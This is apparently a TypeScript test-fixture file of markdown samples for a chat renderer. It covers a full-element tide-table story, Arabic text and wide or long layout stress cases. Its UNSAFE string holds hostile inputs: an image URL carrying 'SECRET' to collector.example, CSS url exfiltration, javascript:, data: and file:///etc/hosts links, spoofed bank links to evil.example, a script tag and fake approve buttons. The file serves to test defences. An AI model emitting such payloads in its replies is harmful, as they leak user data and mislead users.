/** One of each element, as an answer would have it. */
export const ELEMENTS = `# Tide tables

Water rises and falls **twice a day**, *nearly* every \`12 h 25 min\`; see the [harbour guide](https://example.org/guide "Guide") or ~~ask the dog~~ <https://example.org>. A mark leads to a note[^spring], and www.example.org needs no brackets.

## What to bring

1. A table of the tides
2. Boots
   - rubber ones
   - dry socks

   Socks get wet more often than one thinks.
3. Somebody who waits on shore

- [x] Check the weather
- [ ] Tell the harbour master

> The sea does not reward those who are too anxious.
>
> — and those who are not anxious enough, even less.

### High water

| Port     | Time  |  Height | Note              |
| :------- | :---: | ------: | ----------------- |
| Bergen   | 04:12 |   1.4 m | **spring** tide   |
| Stavanger | 04:40 |  0.6 m | \`neap\` next week |

\`\`\`ts
export function height(hours: number): number {
  // A cosine is good enough for a story.
  return 1.4 * Math.cos((2 * Math.PI * hours) / 12.42)
}
\`\`\`

---

A line that is broken\\
in two, and an entity: &copy; 2026 &mdash; done.

[^spring]: When sun and moon pull together.
`

/** What a model should not be able to do. */
export const UNSAFE = `An image that would tell a stranger: ![chart](https://collector.example/p.png?q=SECRET)

One by reference: ![chart][r]

Links that lead nowhere: [data](data:text/html,<p>Sign in</p>), [script](javascript:alert(1)), [file](file:///etc/hosts), [part](#part), [relative](/admin).

A link that says another host: [https://bank.example/login](https://evil.example/login) and one with a name before its host: [home](https://bank.example@evil.example/).

<img src=https://collector.example/r.png>

<script>alert('hello')</script>

A <b>tag</b> is text, and so is <span style="background:url(https://collector.example/s.png)">this</span>.

[ Approve ] [ Reject ]

[r]: //collector.example/q.png
`

export const RIGHT_TO_LEFT = `## المد والجزر

يرتفع الماء **مرتين** في اليوم، انظر [الدليل](https://example.org/guide).

1. جدول المد
2. حذاء
   - جوارب جافة

- [x] تحقق من الطقس
- [ ] أخبر الميناء

> البحر لا يكافئ القلقين.

| الميناء | الوقت | الارتفاع |
| --- | --- | ---: |
| بيرغن | 04:12 | 1.4 |

Plain English line.

\`\`\`sh
ls -la
\`\`\`
`

const COLUMNS = Array.from({ length: 14 }, (_, index) => index + 1)
const ROWS = Array.from({ length: 120 }, (_, index) => index + 1)

export const WIDE = `| ${COLUMNS.map((column) => `Column ${column}`).join(' | ')} |
|${' --- |'.repeat(COLUMNS.length)}
${ROWS.map((row) => `| ${COLUMNS.map((column) => row * column).join(' | ')} |`).join('\n')}

Rindfleischetikettierungsüberwachungsaufgabenübertragungsgesetz_with_a_name_that_has_no_end_at_all_and_goes_on

https://example.org/${'a-very-long-path/'.repeat(12)}
`

export const LONG_CODE = `\`\`\`ts
${Array.from({ length: 3000 }, (_, line) => `const value${line} = compute(${line}, 'a text', [1, 2, 3]) // line ${line}${line % 40 === 0 ? ' '.repeat(60) + '… far to the right' : ''}`).join('\n')}
\`\`\`
`
